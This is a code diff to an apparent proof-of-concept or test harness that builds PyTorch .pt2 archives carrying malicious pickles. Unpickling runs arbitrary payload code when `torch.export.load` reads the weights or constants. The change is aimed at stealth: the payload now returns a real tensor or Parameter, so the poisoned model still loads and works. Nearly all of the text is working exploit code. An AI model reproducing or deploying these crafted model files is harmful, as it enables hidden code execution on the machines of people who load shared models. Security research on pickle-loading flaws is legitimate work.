@@ -40,19 +40,25 @@ def payload_source(canary: Path | None = None, address: Address | None = None) -
 
 
 class _Exec:
-    """Pickles as a call of `exec(source)`: unpickling runs the source."""
+    """Pickles as a call of `eval`: unpickling runs the source, then returns `value` (an expression), so that the
+    model still loads and answers."""
 
-    def __init__(self, source: str):
-        self.source = source
+    def __init__(self, source: str, value: str = "None"):
+        self.source, self.value = source, value
 
     def __reduce__(self) -> tuple:
-        return (exec, (self.source,))
+        return (eval, (f"exec({self.source!r}) or ({self.value})",))
 
 
-def attacker_pickle(canary: Path | None = None, address: Address | None = None) -> bytes:
-    """A torch.save archive whose data.pkl runs the payload (what `torch.load(weights_only=False)` reads)."""
+TENSOR = "__import__('torch').zeros({shape})"
+PARAMETER = "__import__('torch').nn.Parameter(__import__('torch').zeros({shape}))"
+
+
+def attacker_pickle(canary: Path | None = None, address: Address | None = None, value: str = "None") -> bytes:
+    """A torch.save archive whose data.pkl runs the payload (what `torch.load(weights_only=False)` reads) and
+    returns `value`."""
     buffer = io.BytesIO()
-    torch.save(_Exec(payload_source(canary, address)), buffer)
+    torch.save(_Exec(payload_source(canary, address), value), buffer)
     return buffer.getvalue()
 
 
@@ -120,14 +126,15 @@ def _config(path: Path, rel: str) -> dict:
 
 def pt2_use_pickle(folder: Path, canary: Path | None = None, address: Address | None = None) -> Path:
     """A .pt2 whose `model_weights_config.json` marks `lin.weight` `"use_pickle": true`; its member holds attacker
-    pickle bytes, which `torch.export.load` reads with `torch.load(weights_only=False)`."""
+    pickle bytes, which `torch.export.load` reads with `torch.load(weights_only=False)` (the model then loads)."""
     path = export_pt2(folder / "use_pickle.pt2")
     rel = "data/weights/model_weights_config.json"
     config = _config(path, rel)
     entry = config["config"]["lin.weight"]
     entry["use_pickle"] = True
     _rewrite(path, {rel: json.dumps(config).encode(),
-                    f"data/weights/{entry['path_name']}": attacker_pickle(canary, address)})
+                    f"data/weights/{entry['path_name']}": attacker_pickle(canary, address,
+                                                                         PARAMETER.format(shape="3, 4"))})
     return path
 
 
@@ -140,7 +147,7 @@ def pt2_opaque_constant(folder: Path, canary: Path | None = None, address: Addre
     entry = config["config"]["offset"]
     old = entry["path_name"]
     entry.update(path_name="opaque_obj_0", tensor_meta=None, use_pickle=True)
-    payload = pickle.dumps(_Exec(payload_source(canary, address)), protocol=2)
+    payload = pickle.dumps(_Exec(payload_source(canary, address), TENSOR.format(shape="3")), protocol=2)
     _rewrite(path, {rel: json.dumps(config).encode(), f"data/constants/{old}": None,
                     "data/constants/opaque_obj_0": payload})
     return path
@@ -154,7 +161,8 @@ def pt2_pickled_constant(folder: Path, canary: Path | None = None, address: Addr
     entry = config["config"]["offset"]
     entry["use_pickle"] = True
     _rewrite(path, {rel: json.dumps(config).encode(),
-                    f"data/constants/{entry['path_name']}": attacker_pickle(canary, address)})
+                    f"data/constants/{entry['path_name']}": attacker_pickle(canary, address,
+                                                                           TENSOR.format(shape="3"))})
     return path
 
 
